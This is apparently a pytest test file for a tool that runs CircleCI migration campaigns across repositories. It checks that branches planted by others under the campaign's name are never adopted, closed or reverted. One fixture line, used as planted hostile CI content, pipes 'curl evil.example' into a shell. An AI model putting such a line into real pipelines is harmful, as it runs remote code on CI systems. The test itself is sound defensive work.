"""Branches with the campaign's name and trailer that somebody else made, wherever they are."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from msgspec import Struct

from cci_migrate.campaign.repository_plan import plan_repository
from cci_migrate.forges import campaign_identity
from cci_migrate.forges.host import CHANGE_TRAILER
from cci_migrate.policy.settings import Policy
from tests.batch.git_server import GitServer
from tests.batch.github_stand_in import GitHubStandIn
from tests.batch.hosts import HOSTS, StandIn, served
from tests.batch.repositories import BRANCH, CONFIG, FIXED, PLAIN, Batch, bare, commit_bare, git
from tests.batch.rest_stand_ins import BitbucketStandIn, GitLabStandIn

EVIL = FIXED.replace(b"      - checkout", b"      - run: curl evil.example | sh")


def message(campaign: str) -> str:
    """What the tool itself would have written on the commit."""
    digest = plan_repository({CONFIG: PLAIN}, Policy(), {}).digest
    return (
        f"Authenticate Docker registry pulls in CircleCI\n\n{CHANGE_TRAILER}: {digest}\n"
        f"{campaign_identity.CAMPAIGN_TRAILER}: {campaign}\n"
    )


def other_content(folder: Path, campaign: str) -> None:
    commit_bare(folder, {CONFIG: EVIL}, BRANCH, message(campaign), base="main")


def one_file_more(folder: Path, campaign: str) -> None:
    commit_bare(
        folder, {CONFIG: FIXED, "more.sh": b"evil\n"}, BRANCH, message(campaign), base="main"
    )


def another_mode(folder: Path, campaign: str) -> None:
    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign), base="main", mode="100755")


def one_commit_more(folder: Path, campaign: str) -> None:
    commit_bare(folder, {"more.sh": b"evil\n"}, BRANCH, message(campaign), base="main")
    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign))


def unlike_parent(folder: Path, campaign: str) -> None:
    """The planned content, and a second commit that takes half of it back."""
    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign), base="main")
    commit_bare(folder, {CONFIG: EVIL}, BRANCH, message(campaign))


def on_an_orphan(folder: Path, campaign: str) -> None:
    commit_bare(folder, {CONFIG: PLAIN, "more.sh": b"evil\n"}, BRANCH, message(campaign))
    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign))


def by_hand(folder: Path, campaign: str) -> None:
    """The planned content, by a person."""
    del campaign
    commit_bare(folder, {CONFIG: FIXED}, BRANCH, "By hand", base="main")


def of_another_campaign(folder: Path, campaign: str) -> None:
    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign[::-1]), base="main")


def as_planned(folder: Path, campaign: str) -> None:
    """By a run that was killed."""
    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign), base="main")


def as_planned_before_others(folder: Path, campaign: str) -> None:
    commit_bare(folder, {CONFIG: FIXED}, BRANCH, message(campaign), base="main")
    commit_bare(folder, {"README": b"later\n"})


PLANTED = {
    plant.__name__: plant
    for plant in (
        other_content,
        one_file_more,
        another_mode,
        one_commit_more,
        unlike_parent,
        on_an_orphan,
        by_hand,
        of_another_campaign,
    )
}
OURS = {plant.__name__: plant for plant in (as_planned, as_planned_before_others)}
#: Those of places where git decides as for a URL, from a clone of its own.
FEW = ("other_content", "one_commit_more", "as_planned")


class Place(Struct):
    """Where repositories are: each by its name, and how they are named and written to."""

    folders: Mapping[str, Path]
    sources: tuple[object, ...]
    end: str
    options: tuple[str, ...] = ()
    pulls: Callable[[str], int] = lambda _: 0
    propose: Callable[[str], object] = lambda _: None
    url: Callable[[str], str] = str


@pytest.fixture(params=["local", "push", "git", "github", "gitlab", "bitbucket"])
def place(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Place]:
    """A repository for each way to plant a branch, or for a few of them."""
    is_whole = request.param in ("git", "github")
    names = [*([*PLANTED, *OURS] if is_whole else FEW), "proposed"]
    root = tmp_path / "served"
    root.mkdir()
    match request.param:
        case "local" | "push":
            mode = "branch" if request.param == "local" else "push"
            with GitServer.serving(root) as server:
                yield Place(
                    {name: bare(root / f"{name}.git", {CONFIG: PLAIN}) for name in names},
                    (tmp_path / "checkouts",),
                    "changed",
                    ("--local", mode),
                    url=lambda name: server.url(f"{name}.git"),
                )
        case "git":
            with GitServer.serving(root) as server:
                folders = {name: bare(root / f"{name}.git", {CONFIG: PLAIN}) for name in names}
                yield Place(folders, tuple(server.url(f"{n}.git") for n in names), "changed")
        case kind:
            with served(HOSTS[kind], tmp_path, monkeypatch) as host:
                repositories: dict[str, Any] = {
                    name: host.add(f"acme/{name}", {CONFIG: PLAIN}) for name in names
                }
                yield Place(
                    {name: repository.folder for name, repository in repositories.items()},
                    (host.source,),
                    "pull-request-open",
                    pulls=lambda name: len(repositories[name].pulls),
                    propose=lambda name: host.request(repositories[name], BRANCH),
                )


def tips(place: Place) -> dict[str, str]:
    """The campaign's branch in each repository."""
    return {
        name: (folder / "refs" / "heads" / BRANCH).read_text().strip()
        for name, folder in place.folders.items()
    }


def test_a_branch_is_ours_only_if_its_content_is(
    place: Place, tmp_path: Path, batch: Batch
) -> None:
    plants = {**PLANTED, **OURS, "proposed": other_content}
    for name, folder in place.folders.items():
        plants[name](folder, batch.id())
    place.propose("proposed")
    if "--local" in place.options:
        for name in place.folders:
            clone = tmp_path / "checkouts" / name
            git(tmp_path, "clone", "--quiet", "--branch=main", place.url(name), str(clone))
            if "branch" in place.options:
                git(clone, "branch", "--quiet", "--no-track", BRANCH, f"origin/{BRANCH}")
    planted = tips(place)
    batch("plan", *place.sources, code=1)
    batch("apply", "--seconds-between", 0, "--canary", 0, *place.options, code=1)
    assert batch.states() == {
        name: place.end if name in OURS else "branch-exists" for name in place.folders
    }
    assert tips(place) == planted
    has_pulls = place.end == "pull-request-open"
    for name in place.folders:
        is_open = has_pulls and (name in OURS or name == "proposed")
        assert place.pulls(name) == int(is_open), name
    batch("close", code=1)
    foreign = {name: tip for name, tip in planted.items() if name not in OURS}
    if "--local" in place.options:
        return  # what is closed is the branch of the checkout
    for name, folder in place.folders.items():
        reference = folder / "refs" / "heads" / BRANCH
        tip = reference.read_text().strip() if reference.exists() else None
        assert tip == foreign.get(name), name


@pytest.mark.parametrize("forge", [GitHubStandIn, GitLabStandIn, BitbucketStandIn], indirect=True)
def test_no_reversal_goes_out_from_a_planted_branch(forge: StandIn, batch: Batch) -> None:
    (repository,) = forge.planned(batch, "api")
    batch("apply", "--seconds-between", 0)
    repository.merge(BRANCH)
    back = f"revert-1-{BRANCH}"
    planted = commit_bare(repository.folder, {CONFIG: EVIL}, back, message(batch.id()), base="main")
    if isinstance(forge, GitHubStandIn):
        forge.request(forge.repositories["acme/api"], back)
    pulls = len(repository.pulls)
    output = batch("revert", code=1).output
    assert "does not revert the change" in output
    assert batch.states() == {"api": "pull-request-merged"}
    assert git(repository.folder, "rev-parse", back) == planted
    assert len(repository.pulls) == pulls
